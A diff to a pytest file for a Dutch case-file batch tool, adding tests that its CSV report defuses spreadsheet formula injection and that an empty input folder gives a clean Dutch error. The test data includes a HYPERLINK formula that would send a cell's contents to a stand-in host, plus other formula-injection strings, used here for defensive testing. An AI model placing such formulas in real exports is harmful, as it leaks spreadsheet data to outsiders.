@@ -172,3 +172,53 @@ def test_a_json_list_broken_halfway_builds_the_cases_before_and_reports_the_file
     assert "ongeldige JSON op regel 4" in rows["export.json"].problemen[0]
     assert "B-002" not in rows  # after a syntax error the rest of the file cannot be read
     assert report.failed == 1
+
+
+def test_report_csv_neutralises_cells_that_a_spreadsheet_would_run_as_a_formula(tmp_path: Path) -> None:
+    """CSV injection: a cell starting with = + - @ tab or CR gets a single quote before it (OWASP)."""
+    from dossier.batch import BatchReport, CaseResult, write_report
+
+    hostile = ['=HYPERLINK("http://x.test/?"&A1;"klik")', "+SUM(1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    report = BatchReport(results=[CaseResult(h, "fout", problemen=[h + " is fout"]) for h in hostile]
+                         + [CaseResult("V-1", "ok", bestanden=["V-1/a.pdf"], problemen=["gewone tekst; =1"])])
+    _js, cs = write_report(report, tmp_path)
+    with cs.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f, delimiter=";"))
+    shown = ["'" + h for h in hostile[:5]] + ["\\x0d=1"]  # a carriage return is escaped: no formula either
+    assert [r[0] for r in rows[1:]] == [*shown, "V-1"]
+    assert [r[3] for r in rows[1:]] == [s + " is fout" for s in shown] + ["gewone tekst; =1"]
+    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
+    assert json.loads((tmp_path / REPORT_JSON).read_text(encoding="utf-8"))["casussen"][0]["dossiernummer"] \
+        == hostile[0]  # JSON is data, not a spreadsheet: kept as it was
+
+
+def test_a_batch_with_formula_dossiernummers_writes_a_safe_report(tmp_path: Path) -> None:
+    inp = tmp_path / "export.csv"
+    inp.write_text("dossiernummer;werkgever.naam;werknemer.naam;eerste_ziektedag\r\n"
+                   '"=HYPERLINK(""http://x.test/"")";W;A;02-03-2026\r\n@SUM(1);W;B;02-03-2026\r\n'
+                   "OK-1;W;C;02-03-2026\r\n", encoding="utf-8")
+    report = run_batch([inp], tmp_path / "uit", soort="plan_van_aanpak", jobs=1,
+                       settings=Settings(converter="fake"), today=date(2026, 11, 23))
+    assert [r.status for r in report.results] == ["fout", "fout", "ok"]
+    with (tmp_path / "uit" / REPORT_CSV).open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f, delimiter=";"))
+    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://x.test/\")", "'@SUM(1)", "OK-1"]
+
+
+@pytest.mark.parametrize("jobs", ["1", "2"])
+def test_batch_on_an_empty_folder_is_a_dutch_error_with_exit_1(tmp_path: Path, jobs: str) -> None:
+    """With --jobs 1 the input is read in a thread: its error used to be a traceback with exit 0."""
+    (tmp_path / "leeg").mkdir()
+    r = subprocess.run([sys.executable, "-m", "dossier", "batch", str(tmp_path / "leeg"), "--out",
+                        str(tmp_path / "uit"), "--jobs", jobs], capture_output=True, text=True, timeout=120)
+    assert r.returncode == 1, r.stderr
+    assert r.stderr.strip() == "Fout: geen casusbestanden gevonden (verwacht .json, .csv of .xlsx)"
+
+
+def test_an_input_error_in_the_reading_thread_reaches_the_caller(tmp_path: Path) -> None:
+    from dossier.errors import UsageError
+
+    (tmp_path / "leeg").mkdir()
+    with pytest.raises(UsageError, match="geen casusbestanden gevonden"):
+        run_batch([tmp_path / "leeg"], tmp_path / "uit", soort="plan_van_aanpak", jobs=1,
+                  settings=Settings(converter="fake"), today=date(2026, 11, 23))
